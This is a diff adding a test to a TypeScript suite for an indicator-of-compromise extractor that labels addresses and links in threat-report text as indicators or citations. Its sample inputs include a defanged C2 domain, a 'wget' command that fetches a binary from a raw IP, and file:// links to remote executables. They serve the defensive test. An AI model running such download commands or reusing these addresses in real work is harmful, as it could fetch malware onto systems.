@@ -153,6 +153,14 @@ suite('scanText: context beats regex', () => {
 		assert.deepEqual(found('Serial: 0c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:39\nThumbprint 5a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9:0a:1b:2c:3d'), []);
 		assert.deepEqual(found('C2 2001:db8::1 and fe80::1:2'), ['ipv6 2001:db8::1', 'ipv6 fe80::1:2']);
 	});
+	test('in a report that defangs, a live link to an address is still an indicator; a live link to a host is a citation', () => {
+		const roles = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
+		assert.deepEqual(roles('C2 evil190[.]com. Then wget http://45.9.148.62/bins/x86; see https://www.vendor-research.com/blog'), [
+			'indicator evil190.com',
+			'indicator http://45.9.148.62/bins/x86',
+			'reference https://www.vendor-research.com/blog',
+		]);
+	});
 	test('file:// URLs of remote shares are URLs; a WebDAV `@SSL` or `@port` ends the host; local files are not', () => {
 		assert.deepEqual(found('file://46.8.19[.]163/mise/server.exe and file://5.181.159[.]76@80/Downloads/alpha.url'), [
 			'url file://46.8.19.163/mise/server.exe',
